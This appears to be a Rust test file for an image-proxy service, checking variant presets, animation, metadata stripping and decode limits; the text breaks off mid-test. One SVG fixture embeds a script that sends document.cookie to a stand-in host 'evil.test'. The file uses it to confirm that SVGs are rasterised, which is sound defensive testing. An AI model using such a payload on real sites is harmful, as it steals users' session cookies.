//! Media variants: presets rendered from cached originals, under decode limits.

use std::io::Cursor;
use std::time::Duration;

use image::{DynamicImage, ImageFormat, Rgb, RgbImage, Rgba, RgbaImage};

use crate::util::*;

fn encode(img: &DynamicImage, format: ImageFormat) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    img.write_to(&mut out, format).unwrap();
    out.into_inner()
}

pub fn gradient_jpeg(w: u32, h: u32) -> Vec<u8> {
    let img = RgbImage::from_fn(w, h, |x, y| Rgb([(x % 256) as u8, (y % 256) as u8, 128]));
    encode(&DynamicImage::ImageRgb8(img), ImageFormat::Jpeg)
}

fn decoded(bytes: &[u8]) -> (ImageFormat, DynamicImage) {
    let format = image::guess_format(bytes).unwrap();
    (format, image::load_from_memory(bytes).unwrap())
}

fn variant_url(p: &Parasol, source: &str, variant: &str) -> String {
    format!("{}/{variant}", p.url(source))
}

#[tokio::test]
async fn each_preset_has_its_size_and_format() {
    let origin = Origin::start("127.0.0.17").await;
    origin.route("/photo.jpg", Route::ok(gradient_jpeg(1200, 900)));
    // A white disc on a transparent background.
    let alpha = RgbaImage::from_fn(500, 400, |x, y| {
        let (dx, dy) = (i64::from(x) - 250, i64::from(y) - 200);
        Rgba([255, 255, 255, if dx * dx + dy * dy < 150 * 150 { 255 } else { 0 }])
    });
    origin
        .route("/logo.png", Route::ok(encode(&DynamicImage::ImageRgba8(alpha), ImageFormat::Png)));
    let dir = tempfile::tempdir().unwrap();
    let p = Parasol::start(config(dir.path(), &["127.0.0.17/32"])).await;
    let photo = origin.url("/photo.jpg");
    for (variant, format, w, h) in [
        ("avatar", ImageFormat::WebP, 427, 320),
        ("preview", ImageFormat::WebP, 200, 150),
        ("static", ImageFormat::WebP, 498, 374),
        ("emoji", ImageFormat::WebP, 171, 128),
        ("badge", ImageFormat::Png, 96, 96),
    ] {
        let r = get(&variant_url(&p, &photo, variant)).await;
        assert_eq!(r.status(), 200, "{variant}");
        let ct = r.headers()["content-type"].to_str().unwrap().to_string();
        let etag = r.headers()["etag"].to_str().unwrap().to_string();
        let bytes = body(r).await;
        assert_eq!(etag, etag_of(&bytes), "{variant}: ETag of the bytes served");
        let (got, img) = decoded(&bytes);
        assert_eq!(got, format, "{variant}");
        assert_eq!(ct, format.to_mime_type(), "{variant}");
        assert_eq!((img.width(), img.height()), (w, h), "{variant}");
    }
    // Misskey's badge: a mask, every channel the same, bright parts opaque white, the
    // transparent background (and the letterbox) transparent.
    let r = get(&variant_url(&p, &origin.url("/logo.png"), "badge")).await;
    let (format, img) = decoded(&body(r).await);
    assert_eq!(format, ImageFormat::Png);
    assert_eq!((img.width(), img.height()), (96, 96));
    let mask = img.to_rgba8();
    assert!(mask.pixels().all(|p| p.0[0] == p.0[3] && p.0[1] == p.0[3] && p.0[2] == p.0[3]));
    assert_eq!(mask.get_pixel(48, 48).0, [255; 4], "the white disc");
    assert_eq!(mask.get_pixel(2, 48).0[3], 0, "the transparent background");
    assert_eq!(mask.get_pixel(48, 2).0[3], 0, "the letterbox");
    // A flat square leaves the mask empty: no badge at all, as Misskey answers.
    let flat = DynamicImage::ImageRgb8(RgbImage::from_pixel(300, 300, Rgb([90, 90, 90])));
    origin.route("/flat.png", Route::ok(encode(&flat, ImageFormat::Png)));
    let r = get(&variant_url(&p, &origin.url("/flat.png"), "badge")).await;
    assert_eq!(r.status(), 404);
    assert_eq!(r.headers()["x-parasol-error"], "no_rendition");
    assert_eq!(get(&variant_url(&p, &photo, "nope")).await.status(), 404);
    assert_eq!(origin.hits("/photo.jpg"), 1, "every variant came from the one cached original");
    p.stop().await;
}

/// A lossless JPEG XL (a test-only pure-Rust encoder).
fn jxl(img: &RgbImage) -> Vec<u8> {
    use zune_core::{bit_depth::BitDepth, colorspace::ColorSpace, options::EncoderOptions};
    let (w, h) = (img.width() as usize, img.height() as usize);
    let options = EncoderOptions::new(w, h, ColorSpace::RGB, BitDepth::Eight);
    let mut out = Vec::new();
    zune_jpegxl::JxlSimpleEncoder::new(img.as_raw(), options).encode(&mut out).unwrap();
    out
}

/// BMP, ICO, TIFF and JPEG XL originals are served as they are and render every preset, as
/// JPEG, PNG and WebP do (Misskey renders instance-ticker favicons, ICO, through `preview`).
#[tokio::test]
async fn bmp_ico_tiff_and_jpeg_xl_render_like_the_rest() {
    let photo = RgbImage::from_fn(640, 480, |x, y| Rgb([(x % 256) as u8, (y % 256) as u8, 90]));
    let icon = DynamicImage::ImageRgba8(RgbaImage::from_fn(64, 64, |x, _| {
        Rgba([0, 0, 255, if x < 32 { 255 } else { 0 }])
    }));
    let still = DynamicImage::ImageRgb8(photo.clone());
    let files = [
        ("/p.bmp", encode(&still, ImageFormat::Bmp), (640, 480)),
        ("/p.tiff", encode(&still, ImageFormat::Tiff), (640, 480)),
        ("/p.jxl", jxl(&photo), (640, 480)),
        ("/favicon.ico", encode(&icon, ImageFormat::Ico), (64, 64)),
    ];
    let origin = Origin::start("127.0.0.17").await;
    for (path, bytes, _) in &files {
        origin.route(path, Route::ok(bytes.clone()));
    }
    let dir = tempfile::tempdir().unwrap();
    let p = Parasol::start(config(dir.path(), &["127.0.0.17/32"])).await;
    for (path, bytes, (w, h)) in files {
        let src = origin.url(path);
        let original = get(&p.url(&src)).await;
        assert_eq!(original.status(), 200, "{path}");
        assert_eq!(body(original).await, bytes, "{path}: the original as it came");
        let r = get(&variant_url(&p, &src, "preview")).await;
        assert_eq!(r.status(), 200, "{path}");
        let (format, img) = decoded(&body(r).await);
        assert_eq!(format, ImageFormat::WebP, "{path}");
        let fit = if w > h { (200, 200 * h / w) } else { (w.min(200), h.min(200)) };
        assert_eq!((img.width(), img.height()), fit, "{path}");
        let px = img.to_rgba8().get_pixel(fit.0 / 4, fit.1 / 2).0;
        if path.ends_with(".ico") {
            assert!(px[2] > 200 && px[3] > 200, "{path}: the opaque blue half, got {px:?}");
            let right = img.to_rgba8().get_pixel(fit.0 * 7 / 8, fit.1 / 2).0;
            assert!(right[3] < 30, "{path}: the transparent half stays so, got {right:?}");
        } else {
            // The original at (160, 240): x % 256, y % 256, 90.
            let want = [160, 240, 90];
            let near = (0..3).all(|i| (i32::from(px[i]) - want[i]).abs() < 30);
            assert!(near, "{path}: the picture's own pixels, got {px:?}, wanted {want:?}");
        }
    }
    p.stop().await;
}

#[tokio::test]
async fn static_is_the_first_frame_of_an_animation_and_originals_keep_theirs() {
    use image::codecs::gif::{GifEncoder, Repeat};
    let frames: Vec<image::Frame> = [[255u8, 0, 0], [0, 0, 255]]
        .iter()
        .map(|c| image::Frame::new(RgbaImage::from_pixel(600, 300, Rgba([c[0], c[1], c[2], 255]))))
        .collect();
    let mut gif = Vec::new();
    {
        let mut enc = GifEncoder::new(&mut gif);
        enc.set_repeat(Repeat::Infinite).unwrap();
        enc.encode_frames(frames).unwrap();
    }
    let origin = Origin::start("127.0.0.17").await;
    origin.route("/anim.gif", Route::ok(gif.clone()));
    let dir = tempfile::tempdir().unwrap();
    let p = Parasol::start(config(dir.path(), &["127.0.0.17/32"])).await;
    let src = origin.url("/anim.gif");
    assert_eq!(body(get(&p.url(&src)).await).await, gif, "the original keeps its animation");
    let (_, img) = decoded(&body(get(&variant_url(&p, &src, "static")).await).await);
    assert_eq!((img.width(), img.height()), (498, 249));
    let px = img.to_rgb8().get_pixel(100, 100).0;
    assert!(px[0] > 200 && px[2] < 50, "first frame (red), got {px:?}");
    p.stop().await;
}

/// A PNG whose header claims `w` × `h`, with a valid header checksum and one pixel of data.
fn png_claiming(w: u32, h: u32) -> Vec<u8> {
    let mut png = encode(&DynamicImage::ImageRgb8(RgbImage::new(1, 1)), ImageFormat::Png);
    png[16..20].copy_from_slice(&w.to_be_bytes());
    png[20..24].copy_from_slice(&h.to_be_bytes());
    let crc = crc32fast::hash(&png[12..29]);
    png[29..33].copy_from_slice(&crc.to_be_bytes());
    png
}

#[tokio::test]
async fn bombs_and_broken_images_get_a_clear_415() {
    let origin = Origin::start("127.0.0.17").await;
    origin.route("/bomb.png", Route::ok(png_claiming(60_000, 60_000)));
    let jpeg = gradient_jpeg(800, 600);
    origin.route("/cut.jpg", Route::ok(jpeg[..jpeg.len() / 3].to_vec()));
    let dir = tempfile::tempdir().unwrap();
    let p = Parasol::start(config(dir.path(), &["127.0.0.17/32"])).await;
    for path in ["/bomb.png", "/cut.jpg"] {
        let r = get(&variant_url(&p, &origin.url(path), "avatar")).await;
        assert_eq!(r.status(), 415, "{path}");
        assert_eq!(r.headers()["x-parasol-error"], "bad_image", "{path}");
        assert_eq!(get(&variant_url(&p, &origin.url(path), "avatar")).await.status(), 415);
    }
    let metrics = p.metrics().await;
    assert!(
        metrics.contains("parasol_renders_total 2"),
        "each tried once (then negative-cached): {metrics}"
    );
    p.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_render_for_concurrent_requests_and_for_the_same_picture_at_two_urls() {
    let origin = Origin::start("127.0.0.17").await;
    let jpeg = gradient_jpeg(2000, 1500);
    origin.route("/a.jpg", Route::ok(jpeg.clone()).delay(Duration::from_millis(200)));
    origin.route("/copy-of-a.jpg", Route::ok(jpeg));
    let dir = tempfile::tempdir().unwrap();
    let p = Parasol::start(config(dir.path(), &["127.0.0.17/32"])).await;
    let url = variant_url(&p, &origin.url("/a.jpg"), "preview");
    let viewers: Vec<_> = (0..20)
        .map(|_| {
            let url = url.clone();
            tokio::spawn(async move { body(get(&url).await).await })
        })
        .collect();
    let mut bodies = Vec::new();
    for v in viewers {
        bodies.push(v.await.unwrap());
    }
    assert!(bodies.windows(2).all(|w| w[0] == w[1]));
    let copy = body(get(&variant_url(&p, &origin.url("/copy-of-a.jpg"), "preview")).await).await;
    assert_eq!(copy, bodies[0], "same picture, same rendition");
    let metrics = p.metrics().await;
    assert!(metrics.contains("parasol_renders_total 1"), "{metrics}");
    p.stop().await;
}

/// A big-endian TIFF EXIF block with IFD0 { Orientation, GPSInfo -> { GPSLatitudeRef "N" } }.
pub(crate) fn exif_with_gps(orientation: u16) -> Vec<u8> {
    let mut b = b"MM\0\x2a\0\0\0\x08".to_vec();
    b.extend_from_slice(&2u16.to_be_bytes());
    b.extend_from_slice(&[0x01, 0x12, 0, 3, 0, 0, 0, 1]);
    b.extend_from_slice(&orientation.to_be_bytes());
    b.extend_from_slice(&[0, 0]);
    b.extend_from_slice(&[0x88, 0x25, 0, 4, 0, 0, 0, 1]);
    b.extend_from_slice(&38u32.to_be_bytes()); // GPS IFD right after IFD0 (8 + 2 + 24 + 4)
    b.extend_from_slice(&0u32.to_be_bytes());
    b.extend_from_slice(&1u16.to_be_bytes());
    b.extend_from_slice(&[0x00, 0x01, 0, 2, 0, 0, 0, 2, b'N', 0, 0, 0]);
    b.extend_from_slice(&0u32.to_be_bytes());
    b
}

#[tokio::test]
async fn originals_lose_their_gps_but_keep_their_orientation() {
    use img_parts::ImageEXIF;
    let plain = gradient_jpeg(300, 200);
    let mut jpeg = img_parts::jpeg::Jpeg::from_bytes(plain.into()).unwrap();
    jpeg.set_exif(Some(exif_with_gps(6).into()));
    let mut tagged = Vec::new();
    jpeg.encoder().write_to(&mut tagged).unwrap();
    assert!(tagged.windows(2).any(|w| w == [0x88, 0x25]), "the fixture carries a GPS pointer");

    let origin = Origin::start("127.0.0.17").await;
    origin.route("/holiday.jpg", Route::ok(tagged.clone()));
    let dir = tempfile::tempdir().unwrap();
    let p = Parasol::start(config(dir.path(), &["127.0.0.17/32"])).await;
    let r = get(&p.url(&origin.url("/holiday.jpg"))).await;
    assert_eq!(r.status(), 200);
    let etag = r.headers()["etag"].to_str().unwrap().to_string();
    let served = body(r).await;
    assert_eq!(etag, etag_of(&served), "the ETag is of the stripped bytes");
    assert!(served.len() < tagged.len());
    let exif = img_parts::jpeg::Jpeg::from_bytes(served.clone())
        .unwrap()
        .exif()
        .expect("orientation kept");
    assert!(!exif.windows(2).any(|w| w == [0x88, 0x25]), "no GPS pointer left");
    assert!(exif.windows(2).any(|w| w == [0x01, 0x12]), "orientation tag kept");
    let pixels = image::load_from_memory(&served).unwrap();
    assert_eq!((pixels.width(), pixels.height()), (300, 200), "pixels untouched");

    let (skipped, stripped) = (
        "parasol_media_jobs_total{outcome=\"skipped\"}",
        "parasol_media_jobs_total{outcome=\"ok\"}",
    );
    assert_eq!((p.metric(skipped).await, p.metric(stripped).await), (0, 1), "a worker stripped it");
    // A JPEG with nothing to strip is stored as it came, without a worker's round trip.
    let clean = gradient_jpeg(300, 200);
    origin.route("/clean.jpg", Route::ok(clean.clone()));
    assert_eq!(body(get(&p.url(&origin.url("/clean.jpg"))).await).await, clean);
    assert_eq!((p.metric(skipped).await, p.metric(stripped).await), (1, 1), "no job for it");

    // The variant applies the orientation (6: rotate 90°), so it is portrait.
    let (_, avatar) =
        decoded(&body(get(&variant_url(&p, &origin.url("/holiday.jpg"), "avatar")).await).await);
    assert_eq!((avatar.width(), avatar.height()), (200, 300));
    p.stop().await;
}

#[tokio::test]
async fn png_text_chunks_are_removed_from_originals() {
    let plain = encode(&DynamicImage::ImageRgb8(RgbImage::new(40, 30)), ImageFormat::Png);
    let mut png = img_parts::png::Png::from_bytes(plain.into()).unwrap();
    let note = bytes::Bytes::from_static(b"Comment\0taken at home, 52.1N 4.3E");
    png.chunks_mut().insert(1, img_parts::png::PngChunk::new(*b"tEXt", note));
    let mut tagged = Vec::new();
    png.encoder().write_to(&mut tagged).unwrap();
    let origin = Origin::start("127.0.0.17").await;
    origin.route("/shot.png", Route::ok(tagged));
    let dir = tempfile::tempdir().unwrap();
    let p = Parasol::start(config(dir.path(), &["127.0.0.17/32"])).await;
    let served = body(get(&p.url(&origin.url("/shot.png"))).await).await;
    assert!(!served.windows(4).any(|w| w == b"52.1"), "the text chunk is gone");
    assert_eq!(image::load_from_memory(&served).unwrap().width(), 40);
    p.stop().await;

    // With strip_metadata off, the original is served byte for byte.
    let dir = tempfile::tempdir().unwrap();
    let mut cfg = config(dir.path(), &["127.0.0.17/32"]);
    cfg.media.strip_metadata = false;
    let p = Parasol::start(cfg).await;
    let served = body(get(&p.url(&origin.url("/shot.png"))).await).await;
    assert!(served.windows(4).any(|w| w == b"52.1"));
    p.stop().await;
}

#[tokio::test]
async fn svg_is_rasterised_never_served_as_is_or_refused_by_config() {
    let svg = br#"<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="300" height="150">
  <script>fetch('https://evil.test/?c=' + document.cookie)</script>
  <rect width="300" height="150" fill="blue"/>
</svg>"#;
    let origin = Origin::start("127.0.0.17").await;
    origin.route("/logo.svg", Route::ok(svg.to_vec()).header("content-type", "image/svg+xml"));
    let dir = tempfile::tempdir().unwrap();
    let p = Parasol::start(config(dir.path(), &["127.0.0.17/32"])).await;
    let r = get(&p.url(&origin.url("/logo.svg"))).await;
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "image/png");
    let png = body(r).await;
    assert!(!png.windows(6).any(|w| w == b"script"), "no trace of the document");
    let (format, img) = decoded(&png);
    assert_eq!((format, img.width(), img.height()), (ImageFormat::Png, 300, 150));
    let (_, emoji) =
        decoded(&body(get(&variant_url(&p, &origin.url("/logo.svg"), "emoji")).await).await);
    assert_eq!((emoji.width(), emoji.height()), (256, 128));
    p.stop().await;

    let dir = tempfile::tempdir().unwrap();
    let mut cfg = config(dir.path(), &["127.0.0.17/32"]);
    cfg.media.svg = parasol::config::SvgPolicy::Refuse;
    let p = Parasol::start(cfg).await;
    assert_eq!(get(&p.url(&origin.url("/logo.svg"))).await.status(), 415);
    p.stop().await;
}

/// The WebP chunk that holds the picture: `VP8 ` (lossy) or `VP8L` (lossless).
fn webp_kind(bytes: &[u8]) -> &[u8] {
    assert!(bytes.starts_with(b"RIFF") && &bytes[8..12] == b"WEBP", "a WebP file");
    &bytes[12..16]
}

/// WebP presets are lossy at their quality (a timeline's worth of avatars is most of its
/// bandwidth); a preset may ask for lossless.
#[tokio::test]
async fn webp_renditions_are_lossy_unless_asked_otherwise() {
    let origin = Origin::start("127.0.0.17").await;
    // A photo-like picture: gradients and texture, as a camera's would have.
    let img = RgbImage::from_fn(1600, 1200, |x, y| {
        Rgb([(x / 7) as u8, (y / 5) as u8, ((x * 7 + y * 13) % 251) as u8])
    });
    origin.route("/photo.jpg", Route::ok(encode(&DynamicImage::ImageRgb8(img), ImageFormat::Jpeg)));
    let dir = tempfile::tempdir().unwrap();
    let extra = "[variants.exact]\nwidth = 320\nheight = 320\nformat = \"webp\"\nlossless = true\n";
    let toml = config_toml(dir.path(), &["127.0.0.17/32"], extra);
    let p = Parasol::start(parasol::Config::from_sources("t", &toml, std::iter::empty()).unwrap())
        .await;
    let avatar = body(get(&variant_url(&p, &origin.url("/photo.jpg"), "avatar")).await).await;
    let exact = body(get(&variant_url(&p, &origin.url("/photo.jpg"), "exact")).await).await;
    assert_eq!(webp_kind(&avatar), b"VP8 ", "lossy");
    assert_eq!(webp_kind(&exact), b"VP8L", "lossless where asked");
    let (_, a) = decoded(&avatar);
    assert_eq!((a.width(), a.height()), (427, 320), "height 320, as Misskey's avatar");
    eprintln!("avatar of 1600x1200: lossy {} bytes, lossless {} bytes", avatar.len(), exact.len());
    assert!(avatar.len() * 3 < exact.len(), "{} vs {}", avatar.len(), exact.len());
    p.stop().await;
}

/// Frames of an animated WebP, decoded (each a full canvas).
pub fn webp_frames(bytes: &[u8]) -> Vec<image::RgbaImage> {
    use image::AnimationDecoder;
    let decoder = image::codecs::webp::WebPDecoder::new(Cursor::new(bytes)).unwrap();
    decoder.into_frames().map(|f| f.unwrap().into_buffer()).collect()
}

fn solid(c: [u8; 3], w: u32, h: u32) -> RgbaImage {
    RgbaImage::from_pixel(w, h, Rgba([c[0], c[1], c[2], 255]))
}

const COLOURS: [[u8; 3]; 3] = [[255, 0, 0], [0, 200, 0], [0, 0, 255]];

pub fn animated_gif(frames: usize) -> Vec<u8> {
    use image::codecs::gif::{GifEncoder, Repeat};
    let mut gif = Vec::new();
    let mut enc = GifEncoder::new(&mut gif);
    enc.set_repeat(Repeat::Infinite).unwrap();
    let frames = (0..frames).map(|n| {
        let delay = image::Delay::from_numer_denom_ms(80, 1);
        image::Frame::from_parts(solid(COLOURS[n % 3], 800, 400), 0, 0, delay)
    });
    enc.encode_frames(frames).unwrap();
    drop(enc);
    gif
}

fn apng(w: u32, h: u32) -> Vec<u8> {
    let mut out = Vec::new();
    let mut encoder = png::Encoder::new(&mut out, w, h);
    encoder.set_color(png::ColorType::Rgba);
    encoder.set_animated(3, 0).unwrap();
    let mut writer = encoder.write_header().unwrap();
    for c in COLOURS {
        writer.set_frame_delay(1, 10).unwrap();
        writer.write_image_data(solid(c, w, h).as_raw()).unwrap();
    }
    writer.finish().unwrap();
    out
}

fn animated_webp(w: u32, h: u32) -> Vec<u8> {
    let config = webp::WebPConfig::new().unwrap();
    let frames: Vec<RgbaImage> = COLOURS.iter().map(|c| solid(*c, w, h)).collect();
    let mut encoder = webp::AnimEncoder::new(w, h, &config);
    for (n, f) in frames.iter().enumerate() {
        encoder.add_frame(webp::AnimFrame::from_rgba(f.as_raw(), w, h, n as i32 * 100));
    }
    encoder.encode().to_vec()
}

/// Animated avatars and emoji stay animated, as Misskey's own proxy keeps them (the
/// regression its users reported as misskey#5940 and #8319): GIF, APNG and animated WebP in,
/// animated WebP out, every frame fitted; `static` and the still presets are the first frame.
#[tokio::test]
async fn avatars_and_emoji_keep_their_animation_and_static_is_still() {
    let origin = Origin::start("127.0.0.17").await;
    origin.route("/anim.gif", Route::ok(animated_gif(3)));
    origin.route("/anim.png", Route::ok(apng(800, 400)));
    origin.route("/anim.webp", Route::ok(animated_webp(800, 400)));
    // Originals keep their animation when their metadata is stripped.
    let secret = b"GPS-secret-home";
    let tagged_png = {
        let mut png = img_parts::png::Png::from_bytes(apng(800, 400).into()).unwrap();
        let text = [b"Comment\0".as_slice(), secret].concat();
        let chunk = img_parts::png::PngChunk::new(*b"tEXt", text.into());
        png.chunks_mut().insert(1, chunk);
        let mut out = Vec::new();
        png.encoder().write_to(&mut out).unwrap();
        out
    };
    let tagged_webp = {
        use img_parts::ImageEXIF;
        let mut webp = img_parts::webp::WebP::from_bytes(animated_webp(800, 400).into()).unwrap();
        webp.set_exif(Some([b"MM\0\x2a".as_slice(), secret].concat().into()));
        let mut out = Vec::new();
        webp.encoder().write_to(&mut out).unwrap();
        out
    };
    origin.route("/tagged.png", Route::ok(tagged_png.clone()));
    origin.route("/tagged.webp", Route::ok(tagged_webp.clone()));
    let dir = tempfile::tempdir().unwrap();
    let p = Parasol::start(config(dir.path(), &["127.0.0.17/32"])).await;
    for (path, sent) in [("/tagged.png", &tagged_png), ("/tagged.webp", &tagged_webp)] {
        assert!(sent.windows(secret.len()).any(|w| w == secret));
        let original = body(get(&p.url(&origin.url(path))).await).await;
        assert!(!original.windows(secret.len()).any(|w| w == secret), "{path}: stripped");
        let frames = match path.ends_with(".png") {
            true => {
                let decoder = image::codecs::png::PngDecoder::new(Cursor::new(&original[..]));
                image::AnimationDecoder::into_frames(decoder.unwrap().apng().unwrap()).count()
            }
            false => webp_frames(&original).len(),
        };
        assert_eq!(frames, 3, "{path}: the original is still animated");
    }
    for (path, (w, h)) in
        [("/anim.gif", (640, 320)), ("/anim.png", (640, 320)), ("/anim.webp", (640, 320))]
    {
        let avatar = body(get(&variant_url(&p, &origin.url(path), "avatar")).await).await;
        let frames = webp_frames(&avatar);
        assert_eq!(frames.len(), 3, "{path}: three frames");
        for (frame, c) in frames.iter().zip(COLOURS) {
            assert_eq!(frame.dimensions(), (w, h), "{path}");
            let px = frame.get_pixel(w / 2, h / 2).0;
            let close = (0..3).all(|i| (i32::from(px[i]) - i32::from(c[i])).abs() < 40);
            assert!(close, "{path}: frame colour {px:?}, wanted {c:?}");
        }
        let emoji = body(get(&variant_url(&p, &origin.url(path), "emoji")).await).await;
        assert_eq!(webp_frames(&emoji).len(), 3, "{path}: the emoji too");
        assert_eq!(webp_frames(&emoji)[0].dimensions(), (256, 128));
        let still = body(get(&variant_url(&p, &origin.url(path), "static")).await).await;
        assert!(!still.windows(4).any(|w| w == b"ANIM"), "{path}: static is one frame");
        let first = decoded(&still).1.to_rgba8();
        let px = first.get_pixel(first.width() / 2, first.height() / 2).0;
        assert!(near(px, COLOURS[0]), "{path}: static is the first frame, got {px:?}");
        // The badge: the first frame (stretched to white) against its letterbox.
        let badge = body(get(&variant_url(&p, &origin.url(path), "badge")).await).await;
        let mask = image::load_from_memory(&badge).unwrap().to_rgba8();
        assert_eq!((mask.get_pixel(48, 48).0, mask.get_pixel(48, 2).0), ([255; 4], [0; 4]));
    }
    p.stop().await;

    // Past media.max_frames: the first frame, not a cut animation.
    let origin = Origin::start("127.0.0.17").await;
    origin.route("/long.gif", Route::ok(animated_gif(8)));
    let dir = tempfile::tempdir().unwrap();
    let mut cfg = config(dir.path(), &["127.0.0.17/32"]);
    cfg.media.max_frames = 5;
    let p = Parasol::start(cfg).await;
    let avatar = body(get(&variant_url(&p, &origin.url("/long.gif"), "avatar")).await).await;
    assert!(!avatar.windows(4).any(|w| w == b"ANIM"), "over the frame budget: still");
    assert_eq!(decoded(&avatar).1.width(), 640);
    p.stop().await;

    // Past media.max_animation_pixels (canvas pixels summed over frames): three frames of
    // 800 x 400 need 960,000; a budget of two frames gives the first frame, fitted.
    let origin = Origin::start("127.0.0.17").await;
    origin.route("/three.gif", Route::ok(animated_gif(3)));
    origin.route("/two.gif", Route::ok(animated_gif(2)));
    let dir = tempfile::tempdir().unwrap();
    let mut cfg = config(dir.path(), &["127.0.0.17/32"]);
    cfg.media.max_animation_pixels = 2 * 800 * 400;
    let p = Parasol::start(cfg).await;
    let avatar = body(get(&variant_url(&p, &origin.url("/three.gif"), "avatar")).await).await;
    assert!(!avatar.windows(4).any(|w| w == b"ANIM"), "over the pixel budget: still");
    let (_, first) = decoded(&avatar);
    assert_eq!((first.width(), first.height()), (640, 320));
    assert!(near(first.to_rgba8().get_pixel(320, 160).0, COLOURS[0]), "the first frame");
    let within = body(get(&variant_url(&p, &origin.url("/two.gif"), "avatar")).await).await;
    assert_eq!(webp_frames(&within).len(), 2, "exactly at the budget: animated");
    p.stop().await;
}

/// Runs ffmpeg (the test's own, outside parasol) to make a small media file.
pub fn ffmpeg_make(args: &str, ext: &str) -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join(format!("out.{ext}"));
    let status = std::process::Command::new("ffmpeg")
        .args(["-hide_banner", "-loglevel", "error", "-y"])
        .args(args.split_whitespace())
        .arg(&out)
        .status()
        .unwrap();
    assert!(status.success(), "ffmpeg {args}");
    std::fs::read(out).unwrap()
}

/// A frame's pixel is near `want` (RGB).
fn near(px: [u8; 4], want: [u8; 3]) -> bool {
    (0..3).all(|i| (i32::from(px[i]) - i32::from(want[i])).abs() < 40)
}

/// Videos (MP4 with its index at the end, WebM, MOV) get a poster: their first frame, fitted
/// to the preset, taken by ffmpeg inside the media sandbox; AVIF renders through the same
/// path where heif-convert is missing (made so here, so the fallback runs wherever libheif is
/// installed too). The originals are served as they came.
#[tokio::test]
#[cfg_attr(not(has_ffmpeg), ignore = "needs ffmpeg: apt-get install ffmpeg")]
async fn videos_get_posters_and_avif_renders() {
    // Red for the first second, then blue: the poster must be the first frame.
    let clip = "-f lavfi -i color=c=red:s=640x360:d=1,format=yuv420p \
                -f lavfi -i color=c=blue:s=640x360:d=1,format=yuv420p \
                -filter_complex [0][1]concat=n=2:v=1 -r 10";
    let mp4 = ffmpeg_make(&format!("{clip} -c:v libx264 -preset ultrafast"), "mp4");
    let webm = ffmpeg_make(&format!("{clip} -c:v libvpx -deadline realtime -b:v 200k"), "webm");
    let mov = ffmpeg_make(&format!("{clip} -c:v mjpeg -q:v 8"), "mov");
    let avif = ffmpeg_make(
        "-f lavfi -i color=c=green:s=480x320,format=yuv420p -frames:v 1 \
         -c:v libaom-av1 -still-picture 1 -cpu-used 8",
        "avif",
    );
    let moov = mp4.windows(4).position(|w| w == b"moov").unwrap();
    let mdat = mp4.windows(4).position(|w| w == b"mdat").unwrap();
    assert!(moov > mdat, "the MP4's index is at its end, as ffmpeg writes by default");
    let origin = Origin::start("127.0.0.17").await;
    let files = [
        ("/v.mp4", mp4, (640, 360), [255, 0, 0]),
        ("/v.webm", webm, (640, 360), [255, 0, 0]),
        ("/v.mov", mov, (640, 360), [255, 0, 0]),
        ("/p.avif", avif, (480, 320), [0, 128, 0]),
    ];
    for (path, bytes, _, _) in &files {
        origin.route(path, Route::ok(bytes.clone()));
    }
    let dir = tempfile::tempdir().unwrap();
    let mut cfg = config(dir.path(), &["127.0.0.17/32"]);
    cfg.media.heif_convert = "parasol-test-no-heif-convert".into();
    let p = Parasol::start(cfg).await;
    for (path, bytes, (w, h), colour) in files {
        let src = origin.url(path);
        assert_eq!(body(get(&p.url(&src)).await).await, bytes, "{path}: the original");
        for (variant, (bw, bh)) in [("static", (498, 422)), ("preview", (200, 200))] {
            let r = get(&variant_url(&p, &src, variant)).await;
            assert_eq!(r.status(), 200, "{path} {variant}");
            assert_eq!(r.headers()["content-type"], "image/webp", "{path} {variant}");
            let (_, img) = decoded(&body(r).await);
            let scale = (f64::from(bw) / f64::from(w)).min(f64::from(bh) / f64::from(h)).min(1.0);
            let want =
                ((f64::from(w) * scale).round() as u32, (f64::from(h) * scale).round() as u32);
            assert_eq!((img.width(), img.height()), want, "{path} {variant}");
            let px = img.to_rgba8().get_pixel(want.0 / 2, want.1 / 2).0;
            assert!(near(px, colour), "{path} {variant}: {px:?}, wanted {colour:?}");
        }
    }
    // Not a video at all, though it says so: a clear refusal, and the process stays up.
    origin.route("/fake.mp4", Route::ok(b"\0\0\0\x18ftypmp42\0\0\0\0mp42isomjunkjunk".to_vec()));
    let r = get(&variant_url(&p, &origin.url("/fake.mp4"), "static")).await;
    assert_eq!(r.status(), 415);
    assert_eq!(r.headers()["x-parasol-error"], "bad_image");
    assert_eq!(get(&variant_url(&p, &origin.url("/v.mp4"), "preview")).await.status(), 200);
    p.stop().await;
}

/// Without ffmpeg, posters and AVIF renditions are a clear 415; originals and everything else
/// are served as before.
#[tokio::test]
async fn without_ffmpeg_posters_are_415_and_nothing_else_changes() {
    let origin = Origin::start("127.0.0.17").await;
    let mp4 = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom\0\0\0\x08mdat".to_vec();
    origin.route("/v.mp4", Route::ok(mp4.clone()));
    origin.route("/photo.jpg", Route::ok(gradient_jpeg(400, 300)));
    let dir = tempfile::tempdir().unwrap();
    let mut cfg = config(dir.path(), &["127.0.0.17/32"]);
    cfg.media.ffmpeg = "/nonexistent/ffmpeg".into();
    let p = Parasol::start(cfg).await;
    let src = origin.url("/v.mp4");
    assert_eq!(body(get(&p.url(&src)).await).await, mp4, "the video itself is served");
    let r = get(&variant_url(&p, &src, "static")).await;
    assert_eq!(r.status(), 415);
    assert_eq!(r.headers()["x-parasol-error"], "unsupported_type");
    let r = get(&variant_url(&p, &origin.url("/photo.jpg"), "preview")).await;
    assert_eq!(r.status(), 200);
    p.stop().await;
}

/// HEIC (an iPhone's photos) and a transparent AVIF render through libheif's heif-convert in
/// the media sandbox: the right size, the picture's own colours, transparency kept; the
/// originals are served as they came.
#[tokio::test]
#[cfg_attr(
    not(has_heif),
    ignore = "needs libheif's heif-convert and heif-enc: apt-get install libheif-examples"
)]
async fn heic_and_transparent_avif_render_through_heif_convert() {
    let dir = tempfile::tempdir().unwrap();
    let heif_enc = |img: &DynamicImage, name: &str, extra: &[&str]| {
        let png = dir.path().join(format!("{name}.png"));
        std::fs::write(&png, encode(img, ImageFormat::Png)).unwrap();
        let out = dir.path().join(name);
        let status = std::process::Command::new("heif-enc")
            .args(extra)
